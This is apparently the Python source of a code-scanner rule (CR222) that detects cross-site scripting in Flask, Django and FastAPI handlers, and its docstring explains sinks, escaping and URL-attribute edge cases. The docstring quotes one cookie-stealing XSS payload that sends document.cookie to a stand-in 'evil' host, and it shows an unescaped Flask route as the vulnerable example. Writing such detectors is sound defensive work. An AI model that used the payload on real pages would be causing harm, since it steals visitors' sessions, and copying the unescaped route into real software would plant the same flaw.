"""CR222: untrusted input written into a page without escaping."""

from __future__ import annotations

from codereward.findings import Characteristic, Severity
from codereward.rules.base import TaintRule, register


@register
class CrossSiteScripting(TaintRule):
    """## What it does
    Reports untrusted data that reaches an HTML response unescaped: the body given to
    `make_response`, `Response`, Django's `HttpResponse`, FastAPI's `HTMLResponse`,
    `Markup`/`mark_safe`, and what a Flask route returns as text (`return "<h1>" + name`,
    a name holding text built with `+=`, a page rendered from a template the module made
    with Jinja's `Template(...).render(...)` or `string.Template(...).substitute(...)`, the
    body of a `(body, status, headers)` tuple), and text written to a Django `HttpResponse`
    with `response.write(...)`. `Markup("<b>%s</b>") % name` escapes what it inserts, as
    `Markup(...).format(...)` does (not where the field starts a URL attribute).
    A response with another content type (`mimetype="text/plain"`,
    `content_type="application/json"`, a `Content-Type` header set on it) is not HTML and
    is not reported, nor is a header, a dict or list (sent as JSON), or what a FastAPI route
    returns without `response_class=HTMLResponse` (JSON). `html.escape`/`markupsafe.escape`
    end the flow, except for a value that starts a URL attribute (`href="`, `src="`,
    `action="` in text built with `+`, an f-string, `%`, `format` or `format_html`): escaping
    leaves a `javascript:` URL working, so that value needs its scheme checked
    (`urlparse(url).scheme in ("http", "https")`, `url.startswith("/")`), a fixed prefix
    (`"/users/" + name`) or `url_for`. The same holds for a value a template inserts at the
    start of a URL attribute (`href="{{ url }}"` in `render_template_string`, a Jinja
    template of an environment with `autoescape=True`, a Django `Template`): the template
    escapes it, and a `javascript:` URL still runs. A template that does not escape (Jinja's
    default) inserts every value as it is, and so does `{{ name|safe }}`. Percent-encoding
    (`urllib.parse.quote`, `quote_plus`, `urlencode`) makes a value safe as HTML unless its
    `safe=` keeps one of `<>"'&`, and safe as a URL's start unless it keeps `:`; `repr` does not.
    Escaping for HTML does not help inside a `<script>` element's code, outside a string
    of it (`f"<script>loadFeed({escape(limit)});</script>"` runs `limit` as script): that is
    reported; a number (`int(limit)`) or a value inside a quoted string of the script is not.
    Neither does `html.escape(x, quote=False)` inside a quoted attribute value: the quotes it
    leaves end the attribute. Django's `conditional_escape` and `quoteattr` escape. JSON with
    `<`, `>` and `&` replaced by unicode escapes (`json.dumps(x).replace("<", "\\u003c")` ...,
    Jinja's `htmlsafe_json_dumps`, Django's `json_script`) is data inside a `<script>` element
    or as element text; its `"` still ends a double-quoted attribute. An escape applied inside
    `map(lambda t: ..., items)` (or a function of the module mapped) counts for each item.

    Source-to-sink tracking (shared by the injection rules): sanitizers on the way
    and allow-list checks (`if value in ALLOWED:`) end the flow.

    ## Why is this bad?
    A value like `<script>fetch('//evil/?c='+document.cookie)</script>` runs in the
    browser of everyone who views the page, with their session (cross-site scripting).

    ## Example
    ```python
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/hello")
    def hello():
        return "<h1>Hello " + request.args.get("name", "") + "</h1>"
    ```

    ## Use instead
    ```python
    import html
    from flask import Flask, request

    app = Flask(__name__)

    @app.route("/hello")
    def hello():
        return "<h1>Hello " + html.escape(request.args.get("name", "")) + "</h1>"
    ```
    """

    id = "CR222"
    name = "cross-site-scripting"
    characteristic = Characteristic.SECURITY
    cwe = 79
    severity = Severity.HIGH
    message = "Untrusted input written into a page without escaping"
    kinds = ('xss',)
    # one advice for both cases: the URL case reaches the rule as plain xss
    advice = ('escape it with `html.escape`/`markupsafe.escape`, or render a template that escapes '
              '(a URL that starts an attribute needs its scheme checked as well)')
